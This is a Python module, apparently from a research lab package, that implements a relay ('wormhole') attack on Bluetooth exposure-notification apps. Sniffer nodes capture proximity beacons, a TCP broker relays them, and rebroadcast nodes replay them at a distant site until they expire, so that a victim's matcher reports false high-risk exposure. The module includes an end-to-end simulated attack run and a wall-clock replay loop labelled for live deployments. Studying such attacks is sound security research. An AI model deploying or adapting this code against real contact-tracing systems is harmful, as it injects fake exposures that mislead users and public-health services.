"""Relay ("wormhole") attack system.

Sniffer nodes capture exposure beacons and publish them, stamped with an
expiry, to a central broker; rebroadcast nodes replay each beacon at their own
site until it expires. The broker carries every capture exactly once while
victims hear thousands of replays, so tunnel bandwidth stays minimal while
fake proximity is maximized.

Wire protocol (broker <-> nodes): 4-byte big-endian length prefix, then a
JSON body. The first frame of a connection is ``{"hello": {"node_id": ...}}``;
every later frame is a message ``{"origin", "seq", "payload_hex",
"captured_at", "expires_at"}``. The broker fans every message out to all other
nodes, replaying its unexpired backlog to (re)connecting nodes; receivers
deduplicate by (origin, seq).
"""

from __future__ import annotations

import json
import logging
import queue
import socket
import struct
import threading
import time
from dataclasses import dataclass, field

from .ble import (
    Advertisement,
    MalformedFrame,
    NotExposureService,
    decode_advertisement,
    encode_advertisement,
    hex_dump,
)
from .crypto import AEM_LENGTH, RPI_LENGTH

logger = logging.getLogger("gap_lab.wormhole")

PAYLOAD_LENGTH = RPI_LENGTH + AEM_LENGTH  # rpi || aem
DEFAULT_REPLAY_WINDOW_S = 7200
DEFAULT_CADENCE_S = 2.0
MAX_FRAME_BYTES = 1 << 16


class ProtocolError(ValueError):
    """Peer sent a frame that violates the wormhole wire protocol."""


@dataclass(frozen=True)
class NodeConfig:
    """One wormhole device's deployment parameters.

    ``role="both"`` makes a device sender and receiver at the same time, so
    two-node deployments relay in both directions.
    """

    node_id: str
    broker: tuple[str, int]
    role: str = "both"
    replay_cadence_s: float = DEFAULT_CADENCE_S
    replay_window_s: float = DEFAULT_REPLAY_WINDOW_S

    def __post_init__(self):
        if self.role not in ("sniffer", "rebroadcaster", "both"):
            raise ValueError(f"unknown role {self.role!r}")
        if not self.node_id:
            raise ValueError("node_id must be non-empty")
        if self.replay_cadence_s <= 0 or self.replay_window_s <= 0:
            raise ValueError("cadence and window must be positive")

    @property
    def sniffs(self) -> bool:
        return self.role in ("sniffer", "both")

    @property
    def rebroadcasts(self) -> bool:
        return self.role in ("rebroadcaster", "both")


@dataclass(frozen=True)
class WormholeMessage:
    """One captured advertisement in transit between wormhole nodes."""

    payload: bytes
    captured_at: float
    expires_at: float
    origin_id: str
    seq: int

    def __post_init__(self):
        if len(self.payload) != PAYLOAD_LENGTH:
            raise ValueError(
                f"payload must be {PAYLOAD_LENGTH} bytes, got {len(self.payload)}")
        if self.expires_at < self.captured_at:
            raise ValueError("expiry precedes capture time")

    @property
    def key(self) -> tuple[str, int]:
        return (self.origin_id, self.seq)

    @property
    def rpi(self) -> bytes:
        return self.payload[:RPI_LENGTH]

    @property
    def aem(self) -> bytes:
        return self.payload[RPI_LENGTH:]

    def to_json(self) -> dict:
        return {
            "origin": self.origin_id,
            "seq": self.seq,
            "payload_hex": self.payload.hex(),
            "captured_at": self.captured_at,
            "expires_at": self.expires_at,
        }

    @classmethod
    def from_json(cls, obj: dict) -> "WormholeMessage":
        try:
            return cls(
                payload=bytes.fromhex(obj["payload_hex"]),
                captured_at=float(obj["captured_at"]),
                expires_at=float(obj["expires_at"]),
                origin_id=str(obj["origin"]),
                seq=int(obj["seq"]),
            )
        except (KeyError, ValueError, TypeError) as exc:
            raise ProtocolError(f"bad wormhole message: {exc}") from exc


# --- framing ---------------------------------------------------------------------

def encode_frame(obj: dict) -> bytes:
    body = json.dumps(obj, sort_keys=True).encode()
    return struct.pack(">I", len(body)) + body


def read_frame(sock_file) -> dict | None:
    """Read one length-prefixed JSON frame; None on clean EOF."""
    header = sock_file.read(4)
    if not header:
        return None
    if len(header) < 4:
        raise ProtocolError("truncated frame header")
    (length,) = struct.unpack(">I", header)
    if length > MAX_FRAME_BYTES:
        raise ProtocolError(f"frame of {length} bytes exceeds limit")
    body = sock_file.read(length)
    if len(body) < length:
        raise ProtocolError("truncated frame body")
    try:
        obj = json.loads(body)
    except ValueError as exc:
        raise ProtocolError(f"frame body is not JSON: {exc}") from exc
    if not isinstance(obj, dict):
        raise ProtocolError("frame body must be a JSON object")
    return obj


# --- broker ----------------------------------------------------------------------

class _Connection:
    def __init__(self, sock: socket.socket, node_id: str):
        self.sock = sock
        self.node_id = node_id
        self.outbox: queue.Queue = queue.Queue()
        self.delivered: set[tuple[str, int]] = set()

    def enqueue(self, message: WormholeMessage) -> None:
        if message.key in self.delivered:
            return
        self.delivered.add(message.key)
        self.outbox.put(message)


class Broker:
    """Fan-out hub: every node's messages reach every other node.

    On (re)connect a node first receives the unexpired backlog it did not
    originate (at-least-once across reconnects; receivers dedup), then live
    messages, each at most once per connection, in publish order.
    """

    def __init__(self, history_limit: int = 100_000, clock=None):
        self._history: list[WormholeMessage] = []
        self._history_keys: set[tuple[str, int]] = set()
        self._history_limit = history_limit
        self._clock = clock  # None: no expiry pruning (desk-scale backlog)
        self._lock = threading.Lock()
        self._connections: list[_Connection] = []
        self._server_sock: socket.socket | None = None
        self._accept_thread: threading.Thread | None = None
        self._running = False

    @property
    def address(self) -> tuple[str, int]:
        assert self._server_sock is not None, "broker not started"
        return self._server_sock.getsockname()[:2]

    def start(self, host: str = "127.0.0.1", port: int = 0) -> tuple[str, int]:
        self._server_sock = socket.create_server((host, port))
        self._running = True
        self._accept_thread = threading.Thread(target=self._accept_loop, daemon=True)
        self._accept_thread.start()
        logger.info("[broker      ] [INFO] listening on %s:%d", *self.address)
        return self.address

    def stop(self) -> None:
        self._running = False
        if self._server_sock:
            try:
                self._server_sock.close()
            except OSError:
                pass
        with self._lock:
            connections = list(self._connections)
        for conn in connections:
            self._drop(conn)

    def _accept_loop(self) -> None:
        while self._running:
            try:
                sock, _addr = self._server_sock.accept()
            except OSError:
                return
            threading.Thread(
                target=self._serve_connection, args=(sock,), daemon=True).start()

    def _serve_connection(self, sock: socket.socket) -> None:
        fh = sock.makefile("rb")
        conn = None
        try:
            hello = read_frame(fh)
            if hello is None:
                return
            node_id = (hello.get("hello") or {}).get("node_id")
            if not isinstance(node_id, str) or not node_id:
                raise ProtocolError("first frame must be a hello with a node_id")
            conn = _Connection(sock, node_id)
            with self._lock:
                backlog = [m for m in self._live_history()
                           if m.origin_id != node_id]
                self._connections.append(conn)
                for message in backlog:
                    conn.enqueue(message)
            threading.Thread(
                target=self._writer_loop, args=(conn,), daemon=True).start()
            logger.info("[broker      ] [INFO] [%s] connected", node_id)
            while True:
                frame = read_frame(fh)
                if frame is None:
                    return
                self.publish(WormholeMessage.from_json(frame), from_conn=conn)
        except ProtocolError as exc:
            logger.warning("[broker      ] [WARN] protocol error: %s", exc)
            try:
                sock.sendall(encode_frame({"error": str(exc)}))
            except OSError:
                pass
        except OSError:
            pass
        finally:
            if conn is not None:
                self._drop(conn)
            else:
                try:
                    sock.close()
                except OSError:
                    pass

    def _live_history(self) -> list[WormholeMessage]:
        if self._clock is None:
            return self._history
        now = self._clock()
        return [m for m in self._history if m.expires_at > now]

    def publish(self, message: WormholeMessage, from_conn=None) -> bool:
        """Record and fan out one message; duplicates by (origin, seq) are dropped."""
        with self._lock:
            if message.key in self._history_keys:
                return False
            self._history.append(message)
            self._history_keys.add(message.key)
            if len(self._history) > self._history_limit:
                dropped = self._history.pop(0)
                self._history_keys.discard(dropped.key)
            for conn in self._connections:
                if conn is from_conn or conn.node_id == message.origin_id:
                    continue
                conn.enqueue(message)
        return True

    def _writer_loop(self, conn: _Connection) -> None:
        while True:
            message = conn.outbox.get()
            if message is None:
                return
            try:
                conn.sock.sendall(encode_frame(message.to_json()))
            except OSError:
                self._drop(conn)
                return

    def _drop(self, conn: _Connection) -> None:
        with self._lock:
            if conn in self._connections:
                self._connections.remove(conn)
        conn.outbox.put(None)
        try:
            conn.sock.close()
        except OSError:
            pass


# --- node-side link ---------------------------------------------------------------

class BrokerLink:
    """A node's connection to the broker: publish out, deduplicated stream in."""

    def __init__(self, address: tuple[str, int], node_id: str, on_message=None):
        self.node_id = node_id
        self._on_message = on_message
        self._seen: set[tuple[str, int]] = set()
        self.received: list[WormholeMessage] = []
        self._received_cv = threading.Condition()
        self._sock = socket.create_connection(address, timeout=30)
        self._sock.sendall(encode_frame({"hello": {"node_id": node_id}}))
        self._reader = threading.Thread(target=self._reader_loop, daemon=True)
        self._reader.start()

    def publish(self, message: WormholeMessage) -> None:
        self._sock.sendall(encode_frame(message.to_json()))
        logger.info("[wormhole-out] [INFO] [%s] %s", self.node_id,
                    hex_dump(message.payload))

    def _reader_loop(self) -> None:
        fh = self._sock.makefile("rb")
        while True:
            try:
                frame = read_frame(fh)
            except (ProtocolError, OSError):
                return
            if frame is None:
                return
            if "error" in frame:
                logger.warning("[wormhole-in ] [WARN] [%s] broker error: %s",
                               self.node_id, frame["error"])
                return
            try:
                message = WormholeMessage.from_json(frame)
            except ProtocolError:
                continue
            if message.key in self._seen:
                continue
            self._seen.add(message.key)
            logger.info("[wormhole-in ] [INFO] [%s] %s", self.node_id,
                        hex_dump(message.payload))
            with self._received_cv:
                self.received.append(message)
                self._received_cv.notify_all()
            if self._on_message is not None:
                self._on_message(message)

    def snapshot(self) -> list[WormholeMessage]:
        """Copy of everything received so far, in arrival order."""
        with self._received_cv:
            return list(self.received)

    def wait_for(self, count: int, timeout: float = 30.0) -> list[WormholeMessage]:
        """Block until ``count`` distinct messages arrived (or raise)."""
        deadline = time.monotonic() + timeout
        with self._received_cv:
            while len(self.received) < count:
                remaining = deadline - time.monotonic()
                if remaining <= 0:
                    raise TimeoutError(
                        f"{self.node_id}: got {len(self.received)} of {count} "
                        f"messages within {timeout}s")
                self._received_cv.wait(remaining)
            return list(self.received)

    def close(self) -> None:
        try:
            self._sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self._sock.close()


# --- sniffer and rebroadcast logic (clock-agnostic) --------------------------------

def sniff_messages(node_id: str, frames, replay_window_s: float = DEFAULT_REPLAY_WINDOW_S,
                   seq_start: int = 0):
    """Wrap raw frames into WormholeMessages, once per payload per validity.

    ``frames`` yields (timestamp, raw advertising payload). Foreign-service
    and undecodable frames are skipped; a payload already published and still
    unexpired is not published again.
    """
    seq = seq_start
    live_until: dict[bytes, float] = {}
    for timestamp, raw in frames:
        try:
            adv = decode_advertisement(raw)
        except (NotExposureService, MalformedFrame):
            continue
        payload = adv.service_data
        if payload in live_until and timestamp < live_until[payload]:
            continue
        expires = timestamp + replay_window_s
        live_until[payload] = expires
        message = WormholeMessage(
            payload=payload,
            captured_at=timestamp,
            expires_at=expires,
            origin_id=node_id,
            seq=seq,
        )
        seq += 1
        yield message


def rebroadcast_times(message: WormholeMessage, start_at: float,
                      cadence_s: float = DEFAULT_CADENCE_S):
    """Emission schedule: every cadence from start until expiry, never after.

    A message that is already expired when replay would begin yields nothing.
    """
    t = start_at
    while t < message.expires_at:
        yield t
        t += cadence_s


def rebroadcast_frames(message: WormholeMessage, start_at: float,
                       cadence_s: float = DEFAULT_CADENCE_S,
                       service_uuid: int | None = None):
    """(time, frame bytes) pairs for one message's whole replay schedule."""
    adv = Advertisement(rpi=message.rpi, aem=message.aem,
                        **({"service_uuid": service_uuid} if service_uuid else {}))
    frame = encode_advertisement(adv)
    for t in rebroadcast_times(message, start_at, cadence_s):
        yield t, frame


# --- end-to-end attack run ----------------------------------------------------------

@dataclass
class AttackReport:
    """Outcome of one wormhole run against a two-site scenario."""

    wormhole_enabled: bool
    relayed_messages: int
    injected_sightings: int
    windows: list  # matcher.ExposureWindow
    score: float
    high_risk: bool
    relay_latencies_s: list[float] = field(default_factory=list)

    def summary(self) -> str:
        state = "on" if self.wormhole_enabled else "off"
        return (f"wormhole {state}: {self.relayed_messages} relayed, "
                f"{self.injected_sightings} injected sightings, "
                f"{len(self.windows)} exposure windows, score {self.score:.2f}, "
                f"high risk {self.high_risk}")


def run_end_to_end(scenario=None, *,
                   wormhole_enabled: bool = True,
                   sniffer_station: str = "X",
                   rebroadcast_station: str = "Y",
                   carrier_agent: str = "carrier",
                   victim_agent: str = "victim",
                   replay_window_s: float = DEFAULT_REPLAY_WINDOW_S,
                   cadence_s: float = DEFAULT_CADENCE_S,
                   replay_delay_s: float = 0.0,
                   network_delay_s: float = 0.005,
                   use_tcp: bool = True,
                   seed: int | None = None) -> AttackReport:
    """Bridge two out-of-range sites and check what the victim's matcher says.

    Runs the scenario, sniffs the carrier's beacons at one site, relays them
    (over a real localhost broker unless ``use_tcp`` is false), replays them
    at the other site on the simulated clock, feeds everything the victim
    heard into a sighting store, walks the carrier's keys through a TAN-gated
    key server, and matches. ``replay_delay_s`` models a wormhole that only
    starts replaying that long after capture.
    """
    from .crypto import expand_tek
    from .keyserver import DiagnosisBundle, KeyServer, bundle_teks, verify_download
    from .matcher import SightingStore, match, score
    from .simulate import run_scenario, two_site_scenario

    scenario = scenario or two_site_scenario()
    if seed is not None:
        scenario = scenario.with_seed(seed)
    sim = run_scenario(scenario)

    # what the victim device can hear locally: site-Y traffic minus its own beacons
    own_rpis = {
        rpi.value
        for tek in sim.tek_registry.get(victim_agent, [])
        for rpi in expand_tek(tek)
    }
    local = [rec for rec in sim.captures.get(rebroadcast_station, [])
             if rec.rpi not in own_rpis]

    injected: list[tuple[float, bytes, bytes]] = []  # (time, rpi, aem)
    relayed: list[WormholeMessage] = []
    latencies: list[float] = []
    if wormhole_enabled:
        frames = (
            (rec.timestamp, encode_advertisement(Advertisement(rec.rpi, rec.aem)))
            for rec in sim.captures.get(sniffer_station, [])
        )
        outgoing = list(sniff_messages("node-x", frames, replay_window_s))
        relayed = _relay(outgoing, use_tcp)
        for message in relayed:
            arrival = message.captured_at + network_delay_s + replay_delay_s
            latencies.append(arrival - message.captured_at)
            for t, frame in rebroadcast_frames(message, arrival, cadence_s):
                adv = decode_advertisement(frame)
                injected.append((t, adv.rpi, adv.aem))
        injected.sort(key=lambda item: item[0])

    victim_visits = [
        v for a in scenario.agents if a.id == victim_agent for v in a.itinerary
        if v.station_id == rebroadcast_station
    ]
    store = SightingStore()
    events = [(rec.timestamp, rec.rpi, rec.aem, rec.rssi) for rec in local]
    events += [(t, rpi, aem, -60) for t, rpi, aem in injected
               if any(v.arrive <= t <= v.depart for v in victim_visits)]
    for t, rpi, aem, rssi in sorted(events, key=lambda e: (e[0], e[1])):
        store.ingest(rpi, aem, int(t), rssi)

    # carrier diagnosis: TAN-gated upload, signed download, verification
    server = KeyServer(admin_credential="hotline")
    tan = server.issue_tan("hotline")
    bundle = DiagnosisBundle(
        teks=tuple(sim.tek_registry[carrier_agent]),
        submitted_at=scenario.horizon[1],
    )
    server.upload(bundle, tan.token)
    bundles = verify_download(server.download(since=0), server.public_key_pem())

    windows = match(store, bundle_teks(bundles))
    result = score(windows)
    return AttackReport(
        wormhole_enabled=wormhole_enabled,
        relayed_messages=len(relayed),
        injected_sightings=sum(
            1 for t, _rpi, _aem in injected
            if any(v.arrive <= t <= v.depart for v in victim_visits)),
        windows=windows,
        score=result.score,
        high_risk=result.high_risk,
        relay_latencies_s=latencies,
    )


def _relay(messages: list[WormholeMessage], use_tcp: bool) -> list[WormholeMessage]:
    """Push messages from a sniffer link through a broker to a rebroadcast link."""
    if not use_tcp:
        return list(messages)
    broker = Broker()
    address = broker.start()
    try:
        receiver = BrokerLink(address, "node-y")
        sender = BrokerLink(address, "node-x")
        try:
            for message in messages:
                sender.publish(message)
            if messages:
                receiver.wait_for(len(messages))
            return list(receiver.received)
        finally:
            sender.close()
            receiver.close()
    finally:
        broker.stop()


class RebroadcastNode:
    """Wall-clock replay loop for live deployments (CLI ``wormhole node``)."""

    def __init__(self, link: BrokerLink, sink, cadence_s: float = DEFAULT_CADENCE_S,
                 clock=time.time):
        self._link = link
        self._sink = sink  # callable(frame_bytes)
        self._cadence = cadence_s
        self._clock = clock
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._loop, daemon=True)

    def start(self):
        self._thread.start()
        return self

    def stop(self):
        self._stop.set()

    def _loop(self):
        next_emit: dict[tuple[str, int], float] = {}
        while not self._stop.is_set():
            now = self._clock()
            for message in self._link.snapshot():
                if message.expires_at <= now:
                    continue
                due = next_emit.get(message.key, now)
                if now >= due:
                    adv = Advertisement(rpi=message.rpi, aem=message.aem)
                    self._sink(encode_advertisement(adv))
                    next_emit[message.key] = due + self._cadence
            time.sleep(min(self._cadence, 0.05))
